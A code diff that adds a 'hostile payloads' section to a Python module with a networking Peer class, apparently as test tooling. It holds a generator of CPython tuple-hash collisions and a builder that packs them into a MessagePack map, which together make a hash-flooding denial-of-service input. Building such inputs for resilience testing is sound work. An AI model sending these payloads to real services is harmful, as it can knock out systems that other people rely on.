@@ -278,3 +278,42 @@ class Peer:
         self.writer.close()
         with contextlib.suppress(ConnectionError, OSError):
             await self.writer.wait_closed()
+
+
+# -- hostile payloads
+
+_M64 = (1 << 64) - 1
+_XX_P1, _XX_P2, _XX_P5 = 11400714785074694791, 14029467366897019727, 2870177450012600261
+_HASH_MODULUS = (1 << 61) - 1
+
+
+def _rotl(x: int, r: int) -> int:
+    return ((x << r) | (x >> (64 - r))) & _M64
+
+
+def colliding_pairs(count: int, target: int = 0x1234_5678_9ABC) -> list[tuple[int, int]]:
+    """``count`` pairs of ints whose tuples all have the same ``hash()`` (64-bit CPython).
+
+    CPython hashes a tuple with an xxHash-like mix of its items' hashes (unsalted
+    for ints; ``hash(n) == n`` for ``0 <= n < 2**61 - 1``), and every step is
+    invertible modulo 2**64: for each second item, solve for the first.
+    """
+    p1_inv, p2_inv = pow(_XX_P1, -1, 1 << 64), pow(_XX_P2, -1, 1 << 64)
+    acc2 = (target - (2 ^ (_XX_P5 ^ 3527539))) & _M64
+    pairs: list[tuple[int, int]] = []
+    b = 0
+    while len(pairs) < count:
+        b += 1
+        acc1 = (_rotl((acc2 * p1_inv) & _M64, 33) - b * _XX_P2) & _M64
+        lane = ((_rotl((acc1 * p1_inv) & _M64, 33) - _XX_P5) * p2_inv) & _M64
+        if lane < _HASH_MODULUS:  # a non-negative int whose hash is itself
+            pairs.append((lane, b))
+    return pairs
+
+
+def msgpack_map_of_pairs(pairs: list[tuple[int, int]]) -> bytes:
+    """A MessagePack map whose keys are the 2-arrays ``pairs`` (values nil)."""
+    out = bytearray(b"\xdf" + len(pairs).to_bytes(4, "big"))
+    for a, b in pairs:
+        out += b"\x92\xcf" + a.to_bytes(8, "big") + b"\xcf" + b.to_bytes(8, "big") + b"\xc0"
+    return bytes(out)
